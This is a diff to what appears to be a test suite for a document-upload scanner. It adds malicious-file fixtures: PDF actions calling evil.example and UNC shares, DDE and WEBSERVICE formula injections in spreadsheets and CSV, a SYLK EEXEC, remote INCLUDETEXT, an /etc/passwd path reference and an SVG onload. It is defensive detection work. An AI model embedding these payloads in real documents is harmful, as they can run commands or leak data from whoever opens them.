@@ -35,11 +35,30 @@ if TYPE_CHECKING:
     from tests.workflow.pilot.conftest import Firm
 
 LINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
+TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 
 
 def _with(**entries: Any) -> bytes:
     """A PDF whose catalogue has these entries."""
     return pdf(root=lambda document: document.Root.update(Dictionary(**entries)))
+
+
+def _outside(document: Any) -> Any:
+    """A stream whose content lies in another file."""
+    stream = document.make_stream(b"x")
+    stream.F = "//evil.example/share/x"
+    return stream
+
+
+def _sheet(formula: str) -> bytes:
+    """A table with one formula."""
+    part = f"<worksheet><f>{formula}</f></worksheet>"
+    return open_xml("xl/workbook.xml", "spreadsheetml.sheet", parts={"xl/worksheets/sheet1.xml": part})
+
+
+def _cell(formula: str) -> bytes:
+    """The same in OpenDocument."""
+    return open_document("spreadsheet", body=f"<t xmlns:o='urn:o'><c o:formula='of:={formula}'/></t>")
 
 
 def _nested(depth: int) -> Any:
@@ -132,6 +151,15 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("deep.pdf", _with(AA=Array([Dictionary(X=Dictionary(JS="x"))])), "pdf_script"),
     ("launch.pdf", _with(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe")), "pdf_action"),
     ("send.pdf", _with(OpenAction=Dictionary(S=Name.SubmitForm, F="https://evil.example")), "pdf_action"),
+    ("read.pdf", _with(OpenAction=Dictionary(S=Name.URI, URI="https://evil.example/read")), "pdf_action"),
+    ("then.pdf", _with(OpenAction=Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.URI, URI="https://x.y")]))), "pdf_action"),  # noqa: E501 - a row of the table
+    ("page.pdf", _with(AA=Dictionary(O=Dictionary(S=Name.URI, URI="https://evil.example/page"))), "pdf_action"),
+    ("share.pdf", _with(A=Dictionary(S=Name.URI, URI="file://evil.example/share")), "pdf_action"),
+    ("unc.pdf", _with(A=Dictionary(S=Name.URI, URI="\\\\evil.example\\share")), "pdf_action"),
+    ("javascript.pdf", _with(A=Dictionary(S=Name.URI, URI=" JavaScript:alert(1)")), "pdf_action"),
+    ("thread.pdf", _with(A=Dictionary(S=Name.Thread, F="other.pdf")), "pdf_action"),
+    ("outside.pdf", pdf(root=lambda document: document.Root.update(Dictionary(X=_outside(document)))), "pdf_action"),
+    ("reference.pdf", _with(X=Dictionary(Ref=Dictionary(F="//evil.example/x.pdf"))), "pdf_action"),
     ("film.pdf", _with(Extra=Dictionary(Subtype=Name.RichMedia)), "pdf_media"),
     ("xfa.pdf", _with(AcroForm=Dictionary(XFA="x")), "pdf_form"),
     ("carrier.pdf", _carrying(b"MZ\x90\x00"), "pdf_carries"),
@@ -173,6 +201,18 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("command.docx", open_xml(body="<d><instrText>DDE</instrText><instrText>AUTO c:\\\\x</instrText></d>"), "office_command"),  # noqa: E501 - a row of the table
     ("field.docx", open_xml(body='<d><fldSimple instr="DDEAUTO c:\\\\x"/></d>'), "office_command"),
     ("command.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet", body="<x><ddeLink/></x>"), "office_command"),
+    ("dde.xlsx", _sheet("cmd|'/C calc'!A0"), "office_command"),
+    ("service.xlsx", _sheet('_xlfn.WEBSERVICE("https://evil.example/")'), "office_command"),
+    ("dde.ods", _cell("DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"), "office_command"),
+    ("small.docx", open_xml(body="<d><instrText>ddeauto c:\\\\x</instrText></d>"), "office_command"),
+    ("odd-part.docx", open_xml(parts={"word/header1.dat": "<d><instrText>DDEAUTO x</instrText></d>"}), "office_command"),  # noqa: E501 - a row of the table
+    ("text-of.docx", open_xml(body=r'<d><instrText>INCLUDETEXT "\\\\evil.example\x.docx"</instrText></d>'), "office_command"),  # noqa: E501 - a row of the table
+    ("script.odt", open_document(body=f"<x xmlns:t='{TEXT}'><t:script>x</t:script></x>"), "macros"),
+    ("form.odt", open_document(body="<x><submission action='https://evil.example/'/></x>"), "office_external"),
+    ("beside.odt", open_document(body=f'<a {LINK}><image x:href="../../etc/passwd"/></a>'), "office_external"),
+    ("drawing.docx", open_xml(parts={"word/media/a.svg": "<svg onload='x()'/>"}), "office_object"),
+    ("shortcut.docx", open_xml(parts={"word/media/a.png": b"L\x00\x00\x00\x01\x14\x02\x00"}), "office_object"),
+    ("chunk.docx", open_xml(parts=related("aFChunk", "page.htm")), "office_object"),
     ("locked-part.odt", open_document(body="<x><encryption-data/></x>"), "office_encrypted"),
     ("event.odt", open_document(body="<x><event-listener/></x>"), "macros"),
     ("link.docx", _linked(), "zip_names"),
@@ -196,6 +236,13 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("sixteen.csv", "a,b".encode("utf-16"), "csv_encoding"),
     ("open.csv", b'a,b\n"c,d', "csv_broken"),
     ("command.csv", b"a,b\n=cmd|' /C calc'!A0,1", "csv_command"),
+    ("program.csv", b'a,b\n=DDE("soffice";"x";"y"),2', "csv_command"),
+    ("address.csv", b'a,b\n=webservice("https://evil.example/"&A1),2', "csv_command"),
+    ("sylk.csv", b'ID;P\nC;X1;Y1;EEXEC("CALC.EXE")\nE', "unknown"),
+    ("high.geojson", b'{"type": "Point", "coordinates": [1, 2, 1e999]}', "geojson_shape"),
+    ("system.geojson", b'{"type": "Point", "coordinates": [1, 2], "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3405"}}}', "geojson_place"),  # noqa: E501 - a row of the table
+    ("fetched.geojson", b'{"type": "Point", "coordinates": [1, 2], "crs": {"type": "link", "properties": {"href": "https://evil.example/"}}}', "geojson_place"),  # noqa: E501 - a row of the table
+    ("no-system.geojson", b'{"type": "Point", "coordinates": [1, 2], "crs": "EPSG:4326"}', "geojson_place"),
     ("torn.geojson", b'{"type": "Point"', "geojson_broken"),
     ("deep.geojson", b'{"a":' * 100_000, "geojson_broken"),
     ("number.geojson", b'{"type": "Point", "coordinates": [NaN, 1]}', "geojson_broken"),
@@ -224,6 +271,13 @@ HARMLESS: list[tuple[str, bytes, str]] = [
     ("đề án.PDF", pdf("Đề án"), "pdf"),
     ("hoá đơn.pdf", _carrying(b"<invoice/>"), "pdf"),
     ("hoá đơn gói.pdf", _carrying(zlib.compress(b"<invoice/>"), Filter=Name.FlateDecode), "pdf"),
+    ("linked.pdf", _with(A=Array([Dictionary(S=Name.URI, URI=to) for to in ("https://a.vn/", "a.htm", "file:///C:/a")])), "pdf"),  # noqa: E501 - a row of the table
+    ("bars.xlsx", _sheet("A1&amp;&quot;|&quot;&amp;'A|B'!C1"), "xlsx"),
+    ("notes.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet", parts={"xl/drawings/v.vml": "<xml><br></xml>"}), "xlsx"),  # noqa: E501 - a row of the table
+    ("vectors.docx", open_xml(parts={"word/media/a.svg": "<!DOCTYPE svg><svg><path d='M0 0'/></svg>"}), "docx"),
+    ("chart.ods", open_document("spreadsheet", **{"Object 1/content.xml": f'<c {LINK}><d x:href=".."/></c>'}), "ods"),
+    ("system.json", b'{"type": "Point", "coordinates": [1, 2], "crs": {"properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}}', "geojson"),  # noqa: E501 - a row of the table
+    ("list.csv", b"ID;Ph\xc6\xb0\xe1\xbb\x9dng\n1;B\xe1\xba\xbfn\n", "csv"),
     ("a.PNG", picture(), "png"),
     ("filled.jpg", picture("JPEG")[:2] + b"\xff" + picture("JPEG")[2:], "jpg"),
     ("a.jpeg", picture("JPEG"), "jpg"),
